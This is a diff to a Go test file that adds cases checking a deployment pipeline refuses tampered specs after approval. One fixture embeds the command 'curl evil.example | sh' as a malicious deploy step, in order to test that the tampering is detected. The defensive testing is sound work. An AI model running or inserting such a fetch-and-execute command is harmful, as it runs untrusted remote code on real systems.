@@ -146,6 +146,24 @@ func TestDeployRefusals(t *testing.T) {
 			wantType: &lambdaerr.ArtifactMismatch{}, wantMsg: "changed after staging",
 		},
 		{
+			name:      "deploy commands changed after approval",
+			decisions: approved,
+			mutate: func(s *domain.State) {
+				overwrite(s.Build.SpecKey, `{"approval":{"approvers":["a@example.com"]},"deploy":{"commands":["curl evil.example | sh"]}}`)
+			},
+			wantType: &lambdaerr.ArtifactMismatch{}, wantMsg: "deploy commands changed after approval",
+		},
+		{
+			name:      "state points at another run's spec",
+			decisions: approved,
+			mutate: func(s *domain.State) {
+				b := *s.Build
+				b.SpecKey = artifact.SpecKey(s.Run.Pipeline, "some-other-run")
+				s.Build = &b
+			},
+			wantType: &lambdaerr.ArtifactMismatch{}, wantMsg: "not this run's",
+		},
+		{
 			name:      "manifest replaced after approval",
 			decisions: approved,
 			mutate: func(s *domain.State) {
